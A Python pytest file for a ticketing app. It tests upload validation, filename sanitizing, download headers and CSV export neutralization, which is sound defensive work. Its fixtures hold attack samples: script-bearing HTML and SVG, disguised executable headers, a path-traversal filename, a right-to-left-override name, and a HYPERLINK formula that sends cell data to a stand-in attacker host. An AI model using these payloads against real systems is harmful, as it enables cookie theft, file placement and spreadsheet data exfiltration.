"""Files over HTTP: every upload path checks the same way, downloads never run in the browser.

Paths: the ticket form's file field, a comment, checklist evidence (HTML), and the API's
file field, comment and checklist. Each refuses an empty file, an executable named .pdf,
HTML and SVG, stores a safe name for a traversal or 300-character name, keeps a real PNG
or PDF with the type its bytes show, and answers 413 to a file over MAX_ATTACHMENT_MB.
Every response carries nosniff and a restrictive Content-Security-Policy, and the queue's
CSV export writes formula-looking cells as text.
"""

import csv
import io
import struct
import zlib

import pytest
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.test import encode_multipart

from admin.export import neutralized
from tests.conftest import make_ticket, text_of, user
from ticketing import search
from ticketing.attachments import safe_name
from ticketing.models import Attachment, Blob, Comment, Ticket


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)  # 1×1, 8-bit greyscale
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\x00"))
        + chunk(b"IEND", b"")
    )


PNG = _png()
PDF = b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48 + b"PE\x00\x00"
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
LONG_NAME = "informe " * 40 + ".pdf"  # over 300 characters

# path -> (where the upload goes, who sends it, is it the API)
PATHS = ["form", "comment", "checklist", "api_field", "api_comment", "api_checklist"]
SUPPORT = {"categoria": "incidente", "modulo": "otro", "descripcion": "Adjunto la captura."}


def _body(fields: dict, part: str, files: list[tuple[bytes, str, str]]) -> dict:
    """A multipart body built in memory (the test client would spool a big one to a temp
    file it never closes, which filterwarnings=error turns into a failure)."""
    values = MultiDict(fields)
    for data, name, claimed in files:
        values.add(part, FileStorage(io.BytesIO(data), name, content_type=claimed))
    boundary, body = encode_multipart(values)
    return {"data": body, "content_type": f"multipart/form-data; boundary={boundary}"}


class Uploader:
    """Sends one file along one path as the person that path is for."""

    def __init__(self, app, client, auth, path):
        self.app, self.client, self.path = app, client, path
        self.api = path.startswith("api_")
        self.escalation = None
        self.headers = {}
        if path in ("form", "api_field"):
            self.account = "interno"
        else:
            self.account = "focal"
            self.escalation = make_ticket(
                user("focal"), "escalamiento-sge", fields={"modulo": "otro", "descripcion": "x"}
            )
        if self.api:
            from ticketing.api_tokens import create_token

            secret = create_token(user(self.account), name="archivos")[1]
            self.headers = {"Authorization": f"Bearer {secret}"}
        else:
            auth.login(self.account)

    def send(self, data: bytes, name: str, claimed="application/octet-stream"):
        """POST the file; the response (redirects not followed)."""
        files = [(data, name, claimed)]
        if self.path == "form":
            fields = {"title": "Con adjunto", **{f"f_{k}": v for k, v in SUPPORT.items()}}
            body, url = _body(fields, "f_adjunto", files), "/nuevo/soporte/"
        elif self.path == "comment":
            body = _body({"body": "Evidencia"}, "attachment", files)
            url = f"/ticket/{self.escalation.id}/comment"
        elif self.path == "checklist":
            body = _body({"done": "1"}, "attachment", files)
            url = f"/ticket/{self.escalation.id}/checklist/reprodujo"
        elif self.path == "api_field":
            fields = {"type": "soporte", "title": "Con adjunto", "fields": _json(SUPPORT)}
            body, url = _body(fields, "adjunto", files), "/api/v1/tickets"
        elif self.path == "api_comment":
            body = _body({"body": "Evidencia"}, "files", files)
            url = f"/api/v1/tickets/{self.escalation.id}/comments"
        else:
            body = _body({"done": "true"}, "attachment", files)
            url = f"/api/v1/tickets/{self.escalation.id}/checklist/reprodujo"
        return self.client.post(url, headers=self.headers, **body)

    def refusal_text(self, response) -> str:
        """What the person is told when the file is refused."""
        if self.api:
            assert response.status_code == 422, response.get_data(as_text=True)
            return response.get_json()["message"] + " " + str(response.get_json()["fields"])
        if self.path == "form":
            assert response.status_code == 200  # the form again, with the message
            return text_of(response)
        assert response.status_code == 302
        return text_of(self.client.get(response.headers["Location"]))

    def download(self, attachment: Attachment):
        if self.api:
            url = f"/api/v1/tickets/{attachment.ticket_id}/attachments/{attachment.id}"
        else:
            url = f"/ticket/{attachment.ticket_id}/attachment/{attachment.id}"
        return self.client.get(url, headers=self.headers)


def _json(value) -> str:
    import json

    return json.dumps(value)


def _filename(disposition: str) -> str:
    """The plain filename parameter of a Content-Disposition header."""
    from werkzeug.http import parse_options_header

    return parse_options_header(disposition)[1]["filename"]


@pytest.fixture(params=PATHS)
def uploader(request, app, client, auth):
    return Uploader(app, client, auth, request.param)


REFUSED = [  # (bytes, name, what the person is told)
    (b"", "vacio.pdf", "El archivo está vacío"),
    (EXE, "factura.pdf", "no corresponde a un archivo .pdf"),
    (HTML, "pagina.html", "No se aceptan archivos como"),
    (SVG, "logo.svg", "No se aceptan archivos como"),
    (b"\x7fELF\x02\x01\x01" + b"\x00" * 9, "notas.txt", "no corresponde a un archivo .txt"),
]
KEPT = [  # (bytes, name, the type its bytes show)
    (PNG, "Captura de pantalla.png", "image/png"),
    (PDF, "Informe técnico.pdf", "application/pdf"),
]
UNSAFE_NAMES = [  # (name as sent, name stored; None: cut to length)
    ("../../etc/cron.d/informe.pdf", "informe.pdf"),
    ("informe\u202efdp.exe.pdf", "informefdp.exe.pdf"),  # a right-to-left override
    (LONG_NAME, None),
]


def test_every_upload_path_checks_files_the_same_way(uploader):
    for data, name, message in REFUSED:
        before = Ticket.select().count()
        text = uploader.refusal_text(uploader.send(data, name, claimed="text/html"))
        if uploader.path in ("form", "api_field") and name.endswith((".html", ".svg")):
            message = "Tipo de archivo no permitido"  # the field's own list of extensions
        assert message in text, (name, text[:2000])
        assert Attachment.select().count() == 0 and Blob.select().count() == 0
        assert Ticket.select().count() == before  # nothing half-opened
        assert Comment.select().count() == 0

    for data, name, decided in KEPT:
        response = uploader.send(data, name, claimed="text/html")
        assert response.status_code in (200, 201, 302), response.get_data(as_text=True)[:500]
        stored = _newest()
        assert (stored.filename, stored.content_type, stored.size) == (name, decided, len(data))
        download = uploader.download(stored)
        assert download.status_code == 200
        assert download.data == data
        assert download.headers["Content-Type"] == decided
        assert download.headers["X-Content-Type-Options"] == "nosniff"
        disposition = download.headers["Content-Disposition"]
        assert disposition.startswith("attachment;")
        assert _filename(disposition) == name
        if not name.isascii():  # RFC 5987, with an ASCII fallback
            assert "filename*=UTF-8''Informe%20t%C3%A9cnico.pdf" in disposition
            assert 'filename="Informe tecnico.pdf"' in disposition
        assert "sandbox" in download.headers["Content-Security-Policy"]

    for name, kept in UNSAFE_NAMES:
        count = Attachment.select().count()
        response = uploader.send(PDF, name)
        if uploader.path in ("form", "api_field") and Attachment.select().count() == count:
            # the file field refuses such a name outright, with a message beside the field
            assert "El nombre del archivo no es válido" in uploader.refusal_text(response)
            continue
        stored = _newest()
        if kept is None:
            assert len(stored.filename) <= 120 and stored.filename.endswith(".pdf")
            assert stored.filename.startswith("informe informe")
        else:
            assert stored.filename == kept
        download = uploader.download(stored)
        assert _filename(download.headers["Content-Disposition"]) == stored.filename

    # over MAX_ATTACHMENT_MB: 413, whichever path, and nothing kept
    uploader.app.config["MAX_ATTACHMENT_MB"] = 1
    attachments, tickets = Attachment.select().count(), Ticket.select().count()
    comments = Comment.select().count()
    response = uploader.send(PDF + b"0" * (1024 * 1024), "grande.pdf", claimed="application/pdf")
    assert response.status_code == 413, response.get_data(as_text=True)[:500]
    if uploader.api:
        assert response.get_json()["error"] == "too_large"
        assert "1 MB" in response.get_json()["message"]
    else:
        assert response.mimetype == "text/html"
        assert "El archivo supera el tamaño máximo de 1 MB" in text_of(response)
    assert Attachment.select().count() == attachments and Ticket.select().count() == tickets
    assert Comment.select().count() == comments


def _newest() -> Attachment:
    return Attachment.select().order_by(Attachment.id.desc()).get()


def test_a_request_over_the_content_limit_gets_a_readable_spanish_page(app, client, auth):
    app.config["MAX_CONTENT_LENGTH"] = 64 * 1024
    auth.login("focal")
    ticket = make_ticket()
    body = _body({"body": "x"}, "attachment", [(PDF + b"0" * 100_000, "a.pdf", "")])
    response = client.post(f"/ticket/{ticket.id}/comment", **body)
    assert response.status_code == 413
    assert response.mimetype == "text/html"
    page = text_of(response)
    assert "Archivo demasiado grande" in page and "No se guardó nada" in page
    assert Comment.select().count() == 0


def test_a_file_kept_before_these_checks_is_served_as_bytes_only(app, client, auth):
    """A row stored with the type its uploader claimed (text/html) is never sent as such."""
    ticket = make_ticket()
    blob = Blob.create(sha256="0" * 64, size=len(HTML), data=HTML)
    old = Attachment.create(
        ticket=ticket.id,
        filename="../pagina.html",
        content_type="text/html",
        size=len(HTML),
        blob=blob,
        uploaded_by=user("interno").id,
    )
    search.index_ticket(Ticket.get_by_id(ticket.id))  # as the upload path would
    auth.login("interno")
    download = client.get(f"/ticket/{ticket.id}/attachment/{old.id}")
    assert download.status_code == 200
    assert download.headers["Content-Type"] == "application/octet-stream"
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    assert _filename(download.headers["Content-Disposition"]) == "pagina.html"


def test_text_files_are_plain_text_whatever_they_contain(app, client, auth):
    auth.login("focal")
    ticket = make_ticket()
    windows = "Institución;Año\nMINEJ;2025\n".encode("cp1252")
    files = [(HTML, "registro.txt", "text/html"), (windows, "datos.csv", "text/csv")]
    response = client.post(
        f"/ticket/{ticket.id}/comment", **_body({"body": "logs"}, "attachment", files)
    )
    assert response.status_code == 302
    kept = {a.filename: a for a in Attachment.select()}
    assert kept["registro.txt"].content_type == "text/plain; charset=utf-8"
    assert kept["datos.csv"].content_type == "text/csv; charset=windows-1252"
    for name, served in [
        ("registro.txt", "text/plain; charset=utf-8"),
        ("datos.csv", "text/csv; charset=windows-1252"),
    ]:
        download = client.get(f"/ticket/{ticket.id}/attachment/{kept[name].id}")
        assert download.headers["Content-Type"] == served


def test_every_response_carries_the_security_headers(app, client, auth):
    for response in (client.get("/login"), client.get("/api/v1/tickets")):
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["X-Frame-Options"] == "DENY"
        assert response.headers["Referrer-Policy"] == "same-origin"
        policy = response.headers["Content-Security-Policy"]
        for directive in (
            "default-src 'self'",
            "object-src 'none'",
            "base-uri 'self'",
            "frame-ancestors 'none'",
            "form-action 'self'",
            "img-src 'self' data:",
        ):
            assert directive in policy
        assert "'unsafe-inline'" not in policy.split("script-src", 1)[1].split(";")[0]
    auth.login("agq")
    assert client.get("/cola/").headers["X-Content-Type-Options"] == "nosniff"


FORMULAS = [
    '=HYPERLINK("http://atacante.test/?d="&A1,"Ver")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
]


def test_the_queue_export_writes_formula_cells_as_text(app, client, auth):
    for title in FORMULAS:
        make_ticket(title=title)
    make_ticket(title="Ana;=1+1")  # a `;` separator (Spanish Excel) must not start a cell
    auth.login("focal")
    response = client.get("/cola/export/csv/")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text)))
    column = rows[0].index("Título")
    titles = {row[column] for row in rows[1:]}
    assert {f"'{title}" for title in FORMULAS} <= titles
    assert '"Ana;=1+1"' in text  # quoted: one cell whatever the separator
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_every_formula_start_is_neutralized():
    for cell in ["\tcmd", "\rcmd", "=1", "+1", "-1", "@x"]:
        assert neutralized(cell) == "'" + cell
    assert neutralized("MESA-12") == "MESA-12" and neutralized(None) == ""


def test_a_safe_name_is_a_basename_of_printable_characters():
    assert safe_name("C:\\Users\\ana\\informe.pdf") == "informe.pdf"
    assert safe_name("..") == "adjunto" and safe_name(".pdf") == "adjunto.pdf"
    assert safe_name("CON.txt") == "adjunto-CON.txt"
    assert safe_name("a\x00b\nc.txt") == "abc.txt"
    assert safe_name("cafe\u0301.txt") == "caf\u00e9.txt"  # NFC
